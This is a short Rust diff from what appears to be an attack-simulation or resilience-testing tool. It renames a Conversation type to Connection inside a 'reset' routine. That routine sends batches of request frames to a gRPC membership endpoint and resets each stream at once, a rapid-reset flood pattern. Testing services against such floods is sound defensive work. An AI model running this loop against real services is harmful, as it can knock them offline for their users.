@@ -3,7 +3,7 @@
 use super::{Attack, source};
 use crate::frames::{Frames, Heads, Then};
 use crate::scene::{Seen, Stage};
-use crate::stranger::{Conversation, tls};
+use crate::stranger::{Connection, tls};
 use anyhow::Result;
 use std::io;
 use std::time::Duration;
@@ -52,16 +52,16 @@ async fn run(stage: Stage) -> Result<Seen> {
 }
 
 async fn reset(stream: Box<dyn crate::stranger::Stream>, until: Instant, sent: &mut u32) -> io::Result<()> {
-    let conversation = Conversation::open(stream, &[]).await?;
+    let connection = Connection::open(stream, &[]).await?;
     let mut heads = Heads::of("/mesh.v1.Membership/Challenge");
     let mut stream = 1;
-    while stream < 2 * MOST && Instant::now() < until && !conversation.is_over() {
+    while stream < 2 * MOST && Instant::now() < until && !connection.is_over() {
         let mut frames = Frames::default();
         for _ in 0..BATCH {
             frames = frames.request(stream, &heads.next(), Then::More).reset(stream);
             stream += 2;
         }
-        conversation.send(&frames).await?;
+        connection.send(&frames).await?;
         *sent += BATCH;
     }
     Ok(())
